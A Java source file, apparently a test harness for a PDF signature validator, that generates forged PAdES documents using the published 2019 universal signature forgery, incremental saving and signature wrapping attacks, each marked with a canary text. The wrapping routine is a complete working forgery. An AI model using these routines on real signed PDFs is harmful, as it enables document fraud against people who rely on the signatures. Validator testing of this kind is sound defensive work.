package se.genrep.ades.forgery;

import static se.genrep.ades.forgery.DocumentDeviation.content;
import static se.genrep.ades.forgery.ForgeryDesk.CANARY;
import static se.genrep.ades.forgery.ForgeryDesk.GENUINE;
import static se.genrep.ades.forgery.PdfBench.pdf;
import static se.genrep.ades.forgery.PdfBench.redraw;
import static se.genrep.ades.forgery.PdfBench.replacedFirst;
import static se.genrep.ades.forgery.PdfBench.updated;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSObject;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import se.genrep.ades.Format;

/**
 * The attacks on PDF signatures of 2019: universal signature forgery, incremental saving attack,
 * signature wrapping (Mladenov and others, "1 Trillion Dollar Refund").
 */
final class PdfForgeries {

  static final DocumentDeviation UNIVERSAL_EMPTY_CONTENTS =
      content(
          "pdf-universal-forgery-empty-contents",
          "empties the signature's Contents and changes the page",
          Format.PADES,
          desk -> replacedFirst(redrawn(desk), "/Contents <[0-9A-Fa-f]+>", "/Contents <>"));

  static final DocumentDeviation UNIVERSAL_NO_CONTENTS =
      content(
          "pdf-universal-forgery-no-contents",
          "takes the signature's Contents away and changes the page",
          Format.PADES,
          desk -> replacedFirst(redrawn(desk), "/Contents <", "/Kontents <"));

  static final DocumentDeviation UNIVERSAL_NULL_CONTENTS =
      content(
          "pdf-universal-forgery-null-contents",
          "puts zeros into the signature's Contents and changes the page",
          Format.PADES,
          desk -> replacedFirst(redrawn(desk), "/Contents <[0-9A-Fa-f]+>", "/Contents <00>"));

  static final DocumentDeviation UNIVERSAL_NO_BYTE_RANGE =
      content(
          "pdf-universal-forgery-no-byterange",
          "takes the signature's ByteRange away and changes the page",
          Format.PADES,
          desk -> replacedFirst(redrawn(desk), "/ByteRange", "/ByteRung "));

  static final DocumentDeviation UNIVERSAL_NULL_BYTE_RANGE =
      content(
          "pdf-universal-forgery-null-byterange",
          "has the signature's ByteRange cover nothing and changes the page",
          Format.PADES,
          desk -> replacedFirst(redrawn(desk), "/ByteRange \\[[^\\]]*\\]", "/ByteRange [0 0 0 0]"));

  static final DocumentDeviation INCREMENTAL_SAVING =
      content(
          "pdf-incremental-saving",
          "changes the page by an update behind the signed bytes",
          Format.PADES,
          PdfForgeries::redrawn);

  static final DocumentDeviation INCREMENTAL_PAGE =
      content(
          "pdf-incremental-saving-page",
          "puts another page in front by an update behind the signed bytes",
          Format.PADES,
          desk ->
              updated(
                  genuine(desk),
                  pdf -> {
                    PDPage page = pdf.getPage(0);
                    PDPage other = new PDPage(page.getMediaBox());
                    other.setResources(page.getResources());
                    pdf.getPages().insertBefore(other, page);
                    redraw(pdf, CANARY);
                    pdf.getPages().getCOSObject().setNeedToBeUpdated(true);
                  }));

  static final DocumentDeviation INCREMENTAL_WITHOUT_XREF =
      content(
          "pdf-incremental-saving-without-xref",
          "appends a changed page without a cross-reference table",
          Format.PADES,
          desk -> {
            byte[] changed = redrawn(desk);
            String text = new String(changed, StandardCharsets.ISO_8859_1);
            int last = text.lastIndexOf("xref", text.lastIndexOf("trailer"));
            return (text.substring(0, last) + "\n%%EOF\n").getBytes(StandardCharsets.ISO_8859_1);
          });

  static final DocumentDeviation WRAPPING =
      content(
          "pdf-signature-wrapping",
          "moves the second part of what is signed and puts a changed page into the gap",
          Format.PADES,
          PdfForgeries::wrapped);

  private PdfForgeries() {}

  static byte[] genuine(ForgeryDesk desk) throws IOException {
    return desk.sign(pdf(GENUINE), Format.PADES);
  }

  private static byte[] redrawn(ForgeryDesk desk) throws IOException {
    return updated(genuine(desk), pdf -> redraw(pdf, CANARY));
  }

  /**
   * The signed parts stay as they are. What was left over of the room for Contents is not signed:
   * there stand a second ByteRange, a changed page, and a cross-reference table at the very offset
   * at which the signed end of the file says that there is one.
   */
  private static byte[] wrapped(ForgeryDesk desk) throws IOException {
    byte[] signed = genuine(desk);
    int[] range;
    Map<Long, Long> offsets = new TreeMap<>();
    long content;
    try (PDDocument pdf = Loader.loadPDF(signed)) {
      range = pdf.getLastSignatureDictionary().getByteRange();
      pdf.getDocument()
          .getXrefTable()
          .forEach((key, offset) -> offsets.put(key.getNumber(), offset));
      content =
          ((COSObject) pdf.getPage(0).getCOSObject().getItem(COSName.CONTENTS))
              .getKey()
              .getNumber();
    }
    String text = new String(signed, StandardCharsets.ISO_8859_1);
    int table =
        Integer.parseInt(
            text.substring(text.lastIndexOf("startxref") + 9)
                .strip()
                .lines()
                .findFirst()
                .orElseThrow());
    String trailer = text.substring(text.lastIndexOf("trailer"), text.lastIndexOf("startxref"));
    String contents = text.substring(range[1], range[2]).replaceFirst("(?:00)+>$", ">");
    String drawing = "BT /F1 12 Tf 50 700 Td (" + CANARY + ") Tj ET";
    int shift = table + (1 << 15) - range[2];
    StringBuilder gap = new StringBuilder(contents);
    gap.append(
        String.format(
            Locale.ROOT,
            " /ByteRange [%d %d %d %d] >>%nendobj%n",
            range[0],
            range[1],
            range[2] + shift,
            range[3]));
    offsets.replaceAll((number, offset) -> offset >= range[2] ? offset + shift : offset);
    offsets.put(content, (long) range[1] + gap.length());
    gap.append(content).append(" 0 obj\n<< /Length ").append(drawing.length());
    gap.append(" >>\nstream\n").append(drawing).append("\nendstream\nendobj\n");
    gap.append(" ".repeat(table - range[1] - gap.length()));
    gap.append("xref\n");
    offsets.forEach(
        (number, offset) ->
            gap.append(String.format(Locale.ROOT, "%d 1%n%010d 00000 n\r\n", number, offset)));
    gap.append(trailer.replaceFirst("/Prev \\d+", "")).append("startxref\n").append(table);
    gap.append("\n%%EOF\n");
    gap.append(" ".repeat(range[2] + shift - range[1] - gap.length()));
    return (text.substring(0, range[1]) + gap + text.substring(range[2]))
        .getBytes(StandardCharsets.ISO_8859_1);
  }
}
